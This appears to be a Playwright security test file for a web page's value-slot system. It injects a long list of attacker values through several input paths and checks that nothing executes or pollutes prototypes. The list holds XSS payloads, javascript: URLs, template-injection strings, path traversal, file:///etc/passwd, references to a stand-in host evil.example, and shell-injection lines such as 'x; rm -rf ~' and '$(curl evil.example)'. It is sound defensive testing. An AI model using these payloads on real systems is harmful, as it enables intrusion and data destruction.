// Values of an attacker: every value, by every way, into every place. Nothing runs, nothing leaves the page, and what
// cannot be shown as text is not shown.
import { expect, serve, test, trees } from "./support.js";
import { buildWith } from "./build.js";
import { join } from "node:path";

const LONG = "A".repeat(1_000_000);
const deep = (levels) => JSON.parse("[".repeat(levels) + "]".repeat(levels));
const VALUES = [
  // HTML in all spellings
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img src='https://evil.example/x.png'>",
  "<svg/onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href=javascript:alert(1)>x</a>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<base href=//evil.example/>",
  "<form action=//evil.example><input name=x></form>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
  "</span></p><h1>forged</h1>",
  "</code></pre><script>alert(1)</script>",
  "\"><script>alert(1)</script>",
  "' onmouseover='alert(1)",
  "\" autofocus onfocus=alert(1) x=\"",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "<!-- <img src=x onerror=alert(1)> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<template><img src=x onerror=alert(1)></template>",
  "\u003cscript\u003ealert(1)\u003c/script\u003e",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  // Addresses
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "javascript&colon;alert(1)",
  "&#106;avascript:alert(1)",
  "\u0001javascript:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "blob:https://evil.example/x",
  "file:///etc/passwd",
  "//evil.example/x",
  "\\\\evil.example\\x",
  "https://portal.azure.com@evil.example/",
  "https:evil.example",
  "http://[::1",
  "ftp://evil.example/",
  "..",
  "../../../x",
  "a/../../b",
  "%2e%2e",
  "?x=1#y",
  "mailto:x@y?body=<script>",
  // Replacement patterns, slot marks and templates
  "$&",
  "$`$'$1$$",
  "<!--$other-->[x]<!--/$other-->",
  "{{ constructor.constructor('alert(1)')() }}",
  "${alert(1)}",
  "{other}",
  // Names and shapes of objects
  "__proto__",
  "constructor",
  "[object Object]",
  { __proto__: null, constructor: { prototype: { x: 1 } } },
  JSON.parse('{"__proto__": {"polluted": "yes"}}'),
  [JSON.parse('{"__proto__": "x", "toString": "y", "valueOf": 1}')],
  { columns: ["__proto__", "constructor"], rows: [["a", "b"]] },
  { columns: ["<img src=x onerror=alert(1)>"], rows: [["<script>alert(1)</script>"]] },
  { toJSON: "x", then: "y" },
  { length: 5, 0: "a" },
  [[[[[["deep"]]]]]],
  deep(1000),
  Array.from({ length: 10_000 }, () => "<b>x</b>"),
  // Text that is not what it seems
  "\u202egpj.exe",
  "\u2066a\u2069b",
  "a\u200bb\u200dc\ufeff",
  "\u0000\u0007\u001b[31mred",
  "\u{e0041}\u{e0042}",
  "\ud800",
  "A\u0301".repeat(3000),
  LONG,
  // Commands
  "x; rm -rf ~",
  "$(curl evil.example)",
  "`id`",
  "x && calc",
  "x | sh",
  "x\nrm -rf ~",
  "x\r\ncalc",
  "--force",
  "' ; calc ; '",
  "\" ; calc ; \"",
  "“; calc ;”",
  "‘; calc ;’",
  "x\\",
  // Types
  true,
  -0,
  1e308,
  null,
  "",
];
// Where a value goes: text, block, href, code, attribute.
const PLACES = ["text", "block", "part", "whole", "code", "alt"];
const MOST_IN_LINK = 256;

let [tree, parent, site] = [];
// One worker: the origins of hosts are fixed.
test.describe.configure({ mode: "default" });
test.beforeAll(async () => {
  const port = 4183;
  site = await serve(join(trees, "attack-site", "public"));
  tree = await serve(join(trees, "attack", "public"), { ancestors: `http://127.0.0.1:${port}` });
  parent = await serve("/nowhere", { strict: false, port });
});
test.afterAll(() => Promise.all([tree.close(), parent.close(), site.close()]));

/** What may be true of the page whatever it was given. */
const inspect = (value) => {
  const article = document.querySelector("article");
  const faults = [];
  const allowed = /^(article|h1|p|span|div|code|a|img|ul|li|dl|dt|dd|table|thead|tbody|tr|th|td|time)$/;
  for (const element of article.querySelectorAll("*")) {
    if (!allowed.test(element.localName)) faults.push(`<${element.localName}>`);
    for (const { name } of element.attributes) {
      if (!/^(class|id|href|src|alt|loading|width|height|decoding|tabindex|scope|role|hidden|aria-disabled|datetime|data-slot(-\w+)?)$/.test(name)) faults.push(name);
    }
  }
  for (const { href } of article.querySelectorAll("a[href]")) {
    if (!/^(https?|mailto):/.test(href)) faults.push(href);
    const { protocol, username, host, pathname } = new URL(href);
    if (username) faults.push(`user in ${href}`);
    if (host === "contoso.com" && protocol === "https:" && !/^\/x\/[^/]+\/y$/.test(pathname)) faults.push(`path ${href}`);
  }
  const texts = [];
  for (const element of article.querySelectorAll("[data-slot]")) {
    const { slot, slotState, slotCode, slotSource } = element.dataset;
    const text = element.textContent;
    if (/\[object /.test(text) && !/\[object /.test(value ?? "")) faults.push("[object");
    if (slotCode && ["filled", "edited"].includes(slotState) && /[\s;&|$`"'<>“”‘’]|\\$|^--/.test(text)) faults.push(`code ${text}`);
    if (["invalid", "pending"].includes(slotState) && text !== slot) faults.push(`${slotState} ${slot} shows ${text.slice(0, 40)}`);
    // A text is shown whole, as a text.
    const isText = value && value.length <= 10_000 && ["filled", "edited"].includes(slotState);
    // A parser knows no zero.
    const same = isText && [value, value.toWellFormed(), value.replaceAll("\0", () => "\ufffd")].includes(text);
    if (isText && slotSource !== "link" && !same) faults.push(`${slot} shows ${text.slice(0, 40)}`);
    texts.push(slotState);
  }
  if ({}.polluted !== undefined || [].polluted !== undefined) faults.push("polluted");
  if (window.ran) faults.push("ran");
  return [faults, texts];
};

const values = (value) => Object.fromEntries(PLACES.map((name) => [name, value]));
// As JSON: the test's own way into the page is slow with what is deep.
const given = (value) => JSON.stringify(values(value));

// Each way puts a value into all places, and says in which frame the page is.
const WAYS = {
  reader: async (page, value) => {
    await page.evaluate((text) => (document.getElementById("slot:json").value = text), given(value));
    await page.evaluate(() => [...document.querySelectorAll(".slot-panel button")].find(({ textContent }) => textContent === "Fill in").click());
    return page.mainFrame();
  },
  host: async (page, value) => {
    await page.evaluate(async (json) => void (await window.inlaid.set(JSON.parse(json), { replace: true })), given(value));
    return page.mainFrame();
  },
  message: async (page, value) => {
    await page.evaluate(
      (json) =>
        new Promise((done) => {
          addEventListener("message", ({ data }) => data.type === "ack" && done());
          const message = { inlaid: 1, type: "set", replace: true, values: JSON.parse(json) };
          document.querySelector("iframe").contentWindow.postMessage(message, "*");
        }),
      given(value),
    );
    return page.frames()[1];
  },
  link: async (page, value) => {
    const text = typeof value === "string" ? value : JSON.stringify(value);
    const query = new URLSearchParams(PLACES.map((name) => [name, text.slice(0, MOST_IN_LINK)]));
    await page.evaluate(async (hash) => {
      const changed = new Promise((done) => addEventListener("hashchange", done, { once: true }));
      if (location.hash !== hash) {
        location.hash = hash;
        await changed;
        // The module that reads it may have to be loaded.
        await new Promise((done) => setTimeout(done, 20));
      }
    }, `#?${query}`);
    // Half of them are taken by the reader, too.
    await page.evaluate(() => [...document.querySelectorAll(".slot-link button")].find(({ textContent }) => /^Use/.test(textContent))?.click());
    return page.mainFrame();
  },
  data: async (page, value) => {
    tree.files.set("/attack.json", given(value));
    await page.evaluate(() => window.inlaid.load("/attack.json").catch(() => {}));
    return page.mainFrame();
  },
};

// Whatever was put before is shown once a later call is done.
const settle = (frame) => frame.evaluate(async () => void (await window.inlaid.set({})));

for (const [way, put] of Object.entries(WAYS)) {
  test(`${VALUES.length} values by the way of ${way}`, async ({ page }) => {
    await page.addInitScript(() => {
      window.alert = () => (window.ran = true);
    });
    const address = `${tree.origin}/contoso.mail/free.html`;
    if (way === "message") {
      parent.files.set("/host.html", `<!doctype html><title>Host</title><link rel="icon" href="data:,"><iframe src="${address}"></iframe>`);
      await page.goto(`${parent.origin}/host.html`);
    } else {
      await page.goto(address);
    }
    const frame = way === "message" ? page.frames()[1] : page.mainFrame();
    await frame.waitForFunction(() => window.inlaid?.slots().every(({ state }) => state));
    if (way === "reader") {
      await page.locator("[data-slot-tools] button").click();
      await page.locator(".slot-panel").waitFor();
    }
    const wrong = [];
    let shown = 0;
    for (const value of VALUES) {
      const frame = await put(page, value);
      await settle(frame);
      const [faults, states] = await frame.evaluate(inspect, typeof value === "string" ? value : null);
      shown += states.filter((state) => ["filled", "edited"].includes(state)).length;
      if (faults.length) wrong.push([String(JSON.stringify(value)).slice(0, 60), faults]);
    }
    expect(wrong).toEqual([]);
    // A table that shows nothing would hold by itself.
    expect(shown).toBeGreaterThan(VALUES.length);
    expect(new URL(frame.url()).origin).toBe(tree.origin);
  });
}

test("the same values by the way of the site, put in by the build and taken up by the script", async ({ page, browser }) => {
  const quiet = await browser.newContext({ javaScriptEnabled: false });
  const still = await quiet.newPage();
  await page.addInitScript(() => {
    window.alert = () => (window.ran = true);
  });
  const wrong = [];
  let built = 0;
  for (const value of VALUES) {
    // What is no YAML, or too large, is refused with a message; a build never breaks on it.
    if (!buildWith("attack-site", values(value))) continue;
    built += 1;
    for (const [one, name] of [[still, "the build"], [page, "the script"]]) {
      await one.goto(`${site.origin}/contoso.mail/free.html`);
      if (one === page) await page.waitForFunction(() => window.inlaid?.slots().every(({ state }) => state));
      const [faults] = await one.evaluate(inspect, typeof value === "string" ? value : null);
      if (faults.length) wrong.push([name, String(JSON.stringify(value)).slice(0, 60), faults]);
    }
  }
  await quiet.close();
  expect(wrong).toEqual([]);
  expect(built).toBeGreaterThan(80);
});
